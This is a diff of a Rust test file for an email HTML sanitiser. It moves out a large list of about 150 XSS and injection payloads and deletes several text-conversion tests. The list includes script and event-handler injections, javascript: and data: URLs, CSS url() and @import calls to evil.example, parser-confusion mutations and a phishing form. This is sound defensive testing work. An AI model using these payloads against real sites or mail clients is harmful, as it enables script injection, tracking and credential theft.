@@ -1,6 +1,8 @@
 //! HTML cleaning: nothing in a message runs, loads, covers or leaves the page.
 
-use mailkit::html::{CleanOptions, Cleaned, clean, from_text, to_search_text, to_text};
+use mailkit::html::{CleanOptions, Cleaned, clean, to_search_text, to_text};
+
+use crate::attacks::ATTACKS;
 use proptest::prelude::*;
 
 fn clean_with(html: &str, remote_images: bool) -> Cleaned {
@@ -13,159 +15,6 @@ fn clean_with(html: &str, remote_images: bool) -> Cleaned {
 fn cleaned(html: &str) -> String {
     clean_with(html, false).html
 }
-
-/// Attacks by kinds of way in: scripts, handlers, addresses, styles, parser confusion, foreign content, framing.
-const ATTACKS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script\n>alert(1)</script\n>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script/x>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror\n=\nalert(1)>",
-    "<img/src='x'/onerror='alert(1)'>",
-    "<img src='x' ONERROR=&#97;lert(1)>",
-    "<body onload=alert(1)>",
-    "<p onmouseover=alert(1) style='x'>x</p>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<video><source onerror=alert(1)></video>",
-    "<video poster=javascript:alert(1)></video>",
-    "<audio src=x onerror=alert(1)></audio>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)></select>",
-    "<textarea autofocus onfocus=alert(1)></textarea>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<form action=javascript:alert(1)><input type=submit></form>",
-    "<form action='https://evil.example/login'><input name=password></form>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='JaVaScRiPt:alert(1)'>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<a href='java\nscript:alert(1)'>x</a>",
-    "<a href='&#106;avascript:alert(1)'>x</a>",
-    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
-    "<a href=' \u{1}javascript:alert(1)'>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
-    "<a href='file:///etc/passwd'>x</a>",
-    "<a href='cid:x'>x</a>",
-    "<a href='//evil.example'>x</a>",
-    "<a href='/sign-out'>x</a>",
-    "<a ping='https://evil.example/p' href='https://ok.example'>x</a>",
-    "<img src='javascript:alert(1)'>",
-    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
-    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
-    "<img src='/account/delete'>",
-    "<img srcset='https://evil.example/x.png 1x'>",
-    "<img lowsrc='https://evil.example/x.png'>",
-    "<img dynsrc='https://evil.example/x.png'>",
-    "<img usemap='#m'><map name=m><area href=javascript:alert(1)></map>",
-    "<table background='javascript:alert(1)'><tr><td background='https://evil.example/x'>x</table>",
-    "<body background='https://evil.example/x.png'>",
-    "<div style='background:url(https://evil.example/x)'>x</div>",
-    "<div style='background-image:u\\72l(https://evil.example/x)'>x</div>",
-    "<div style='width:expression(alert(1))'>x</div>",
-    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
-    "<div style='behavior:url(#default#time2)'>x</div>",
-    "<div style=\"color:red;} @import 'https://evil.example/x.css';\">x</div>",
-    "<ul><li style='list-style: \"rgb(\" url(//evil.example/x)'>x</li></ul>",
-    "<ul><li style=\"list-style: 'hsl(' url(//evil.example/x)\">x</li></ul>",
-    "<p style='font-family: \"rgb(\" calc(1px'>x</p>",
-    "<p style='background: rgb(url(//evil.example/x)'>x</p>",
-    "<p style='color:rgb(0,0,0;background:url(//evil.example/x)'>x</p>",
-    "<p style='background:\\75rl(http://evil.example/x);color:\\75 rl(x)'>x</p>",
-    "<p style='background:u/**/rl(http://evil.example/x)'>x</p>",
-    "<p style='background:URL( \"//evil.example/x\" )'>x</p>",
-    "<p style='background:-webkit-image-set(\"//evil.example/x\" 1x)'>x</p>",
-    "<p style='--x:url(//evil.example/x);background:var(--x)'>x</p>",
-    "<p style='--x:{url(//evil.example/x)};--y:[url(x)];--z:src(\"x\")'>x</p>",
-    "<p style='background:var(--a,url(//evil.example/x))'>x</p>",
-    "<p style='background:linear-gradient(red,url(//evil.example/x))'>x</p>",
-    "<p style='background:attr(title url)'>x</p>",
-    "<p style='color:red;}p{background:url(//evil.example/x)}'>x</p>",
-    "<p style='font-family:\"a\nb;background:url(http://evil.example/x);x:\"'>x</p>",
-    "<style>p{background:url(//evil.example/x)}.a{list-style:'rgb(' url(//evil.example/x)}</style><p>x</p>",
-    "<style>@import url(//evil.example/x);@import '//evil.example/y' screen;@namespace url(x);</style>x",
-    "<style>@font-face{font-family:x;src:url(http://evil.example/x)}p{font-family:x}</style><p>x</p>",
-    "<style>@media screen{@import 'x';p{background:url(//evil.example/x)}}@supports (x:url(y)){p{color:red}}</style>",
-    "<style>p{color:red}</style/x>y</style>",
-    "<style>p{content:'</style><img src=x onerror=alert(1)>'}</style>",
-    "<style>p{font-family:'\\3c/style>\\3cscript>alert(1)'}</style>",
-    "<style>a[href^='\\3c']{color:red}p\\{}*{color:red}.\\<img{color:red}</style>",
-    "<style><!-- p{color:red} --></style>",
-    "<style>p{color:red;{background:url(//evil.example/x)}}p{&:hover{background:url(x)}}</style>",
-    "<style media='screen and (x:url(y))'>p{color:red}</style><style media='screen{}*{background:url(x)}'>p{color:red}</style>",
-    "<style>@media (prefers-color-scheme:dark){p{background:url(//evil.example/x)}}@media print,(a:url(x)){p{color:red}}</style>",
-    "<body style='background:url(https://evil.example/x)' class='a b' id=c onload=alert(1) bgcolor='red\"}*{x:url(y)}'>x",
-    "<html style='background:u\\72l(https://evil.example/x)'><body text='#fff;}*{background:url(x)}' link='x{'>x",
-    "<main style='background:url(x)'><body class=m--x></main>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<style>body{background:url(https://evil.example/x)}</style>",
-    "<style><img src=x onerror=alert(1)></style>",
-    "<link rel=stylesheet href='https://evil.example/x.css'>",
-    "<link rel=prefetch href='https://evil.example/x'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<base href='https://evil.example/'>",
-    "<base target=_parent>",
-    "<iframe src='https://evil.example'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<frameset><frame src='https://evil.example'></frameset>",
-    "<object data='https://evil.example/x.swf'></object>",
-    "<embed src='https://evil.example/x.swf'>",
-    "<applet code=x></applet>",
-    "<portal src='https://evil.example'></portal>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
-    "<svg><image href='https://evil.example/x.png'></svg>",
-    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
-    "<svg><style><img src=x onerror=alert(1)></style></svg>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</math>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<template><script>alert(1)</script></template>",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
-    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
-    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
-    "<title><img title='</title><img src onerror=alert(1)>'></title>",
-    "<plaintext><script>alert(1)</script>",
-    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<!--[if IE]><script>alert(1)</script><![endif]-->",
-    "<!-- --!><img src=x onerror=alert(1)>",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "<%<!--'%><script>alert(1);</script -->",
-    "<a title='\"><script>alert(1)</script>'>x</a>",
-    "<a title=\"'><img src=x onerror=alert(1)>\">x</a>",
-    "<img alt='`onerror=alert(1)' src=x>",
-    "<div id=x name=y class=z>clobber</div>",
-    "<img name=getElementById>",
-    "<a id=location href='https://ok.example'>x</a>",
-    "<p is=x-evil>x</p>",
-    "<custom-element onclick=alert(1)>x</custom-element>",
-    "<p contenteditable onbeforeinput=alert(1)>x</p>",
-    "<p slot=x part=y accesskey=x tabindex=1>x</p>",
-    "<dialog open>over everything</dialog>",
-    "<table><script>alert(1)</script></table>",
-    "<select><script>alert(1)</script></select>",
-    "<isindex action=javascript:alert(1) type=image>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "\u{0}<script>alert(1)</script>",
-    "<\u{0}script>alert(1)</script>",
-    "<img src=x onerror=\u{0}alert(1)>",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "<IMG SRC=`javascript:alert(1)`>",
-    "<<script>alert(1);//<</script>",
-    "<img \"\"\"><script>alert(1)</script>\">",
-];
 
 /// Reads the attributes out of what was cleaned; the serialiser always writes `name="value"`.
 fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
@@ -397,25 +246,6 @@ fn html_made_to_be_slow_is_not() {
     }
 }
 
-#[test]
-fn text_becomes_html_with_links_and_quotes() {
-    assert_eq!(
-        from_text("a <b> & \"c\"\n> see https://x.example/a?b=1&c=2.\nend"),
-        "a &lt;b&gt; &amp; &quot;c&quot;<br>\n<blockquote>see \
-         <a href=\"https://x.example/a?b=1&amp;c=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">\
-         https://x.example/a?b=1&amp;c=2</a>.<br>\n</blockquote>end<br>\n"
-    );
-}
-
-#[test]
-fn html_becomes_text() {
-    let text = to_text("<p>Hello <b>you</b></p><ul><li>one<li>two</ul><a href='https://x.example'>link</a>");
-    for part in ["Hello", "you", "one", "two", "link", "https://x.example"] {
-        assert!(text.contains(part), "{part}: {text}");
-    }
-    assert_eq!(to_search_text("<p>a&amp;b<style>x{}</style></p>").trim(), "a&b");
-}
-
 proptest! {
     #[test]
     fn any_mixture_of_attacks_is_cleaned(
@@ -435,14 +265,6 @@ proptest! {
         to_text(&html);
         to_search_text(&html);
     }
-}
-
-#[test]
-fn a_text_of_addresses_and_nothing_else_is_made_clickable_in_linear_time() {
-    let count = 200_000;
-    let html = from_text(&"http://a httphttps://b ".repeat(count));
-    assert_eq!(html.matches("<a href=\"http://a\"").count(), count);
-    assert_eq!(html.matches("http<a href=\"https://b\"").count(), count);
 }
 
 /// What the frame shows of a mail's looks: the sheet, the box and the styles.
@@ -647,50 +469,5 @@ fn styles_made_to_be_slow_are_not() {
         let out = cleaned(&html);
         check("slow", &out);
         assert!(out.len() < 4 * html.len() + 10_000, "{} of {}", out.len(), html.len());
-    }
-}
-
-#[test]
-fn html_is_quoted_as_lines_of_words() {
-    let long = format!("https://shop.example/track/4711?token={}", "abcdefghij".repeat(12));
-    for (html, expected) in [
-        (
-            format!(
-                "<table border=0 cellpadding=0><tr><td><table><tr><td>Hello Anna,</td></tr><tr><td>your order <b>4711</b> is on its way.</td></tr>\
-                 <tr><td><a href='{long}'>Follow it</a></td></tr></table></td><td>Side bar</td></tr></table>"
-            ),
-            format!("Hello Anna,\nyour order 4711 is on its way.\nFollow it\n<{long}>\nSide bar\n"),
-        ),
-        (format!("<p>See <a href='{long}'>our shop</a> now, and <i>hurry</i>.</p>"), format!("See our shop\n<{long}>\nnow, and hurry.\n")),
-        ("<a href='https://x.example/'>https://x.example</a> <a href='mailto:a@b.example'>a@b.example</a>".into(), "https://x.example a@b.example\n".into()),
-        ("<a href='mailto:a@b.example'>Ann</a>!".into(), "Ann <mailto:a@b.example>!\n".into()),
-        ("<a href='https://x.example/'><img src=x alt='Our shop'></a>".into(), "Our shop\n<https://x.example/>\n".into()),
-        ("<a href='https://x.example/'><img src=x></a><img src=y alt=Logo>".into(), "<https://x.example/>[Logo]\n".into()),
-        ("<a href='https://x.example/'><table><tr><td>Pay</table></a>".into(), "Pay\n<https://x.example/>\n".into()),
-        ("<p>One</p><p>Two<br>three</p><div>four</div><div>five</div>".into(), "One\n\nTwo\nthree\n\nfour\nfive\n".into()),
-        ("<h1>Head</h1>text".into(), "Head\n\ntext\n".into()),
-        ("<ul><li>a<li>b<ol start=3><li>c<li>d</ol></ul>e".into(), "- a\n- b\n  3. c\n  4. d\n\ne\n".into()),
-        ("<blockquote>a<blockquote>b</blockquote></blockquote>c".into(), "> a\n>>\n>> b\n\nc\n".into()),
-        ("<pre>a  b\n  c</pre>".into(), "a  b\n  c\n".into()),
-        (
-            "<table><tr><th>Item<th>Price</tr><tr><td>Rope<td>12</tr><tr><td>Cleat<td>9.50</table>".into(),
-            "Item  Price\nRope  12\nCleat  9.50\n".into(),
-        ),
-        ("<table><tr><td><p>Left</p><td><p>Right</p></table>".into(), "Left\n\nRight\n".into()),
-        ("<style>.p{display:none}</style><span class=p>NOT FOR EYES</span><span style='display:none'>x</span><p hidden>y</p>Words".into(), "Words\n".into()),
-        ("a &amp; b &lt;c&gt; &nbsp; d&#8203;e &quot;f&quot;".into(), "a & b <c> de \"f\"\n".into()),
-        ("<title>t</title><script>s</script>x<hr>y".into(), "x\n----------\ny\n".into()),
-        (String::new(), String::new()),
-        ("<p> </p><br><br><br>".into(), String::new()),
-    ] {
-        assert_eq!(to_text(&html), expected, "{html}");
-    }
-    let wrapped = to_text(&"word ".repeat(100));
-    assert!(wrapped.lines().all(|line| line.len() <= 76) && wrapped.lines().count() < 8, "{wrapped}");
-    for drawn in ['\u{2500}', '\u{2502}', '\u{252c}', '#', '*', '['] {
-        assert!(
-            !to_text("<h1>a</h1><table border=1><tr><td><b>b</b><td><em>c</em></table>").contains(drawn),
-            "{drawn}"
-        );
     }
 }
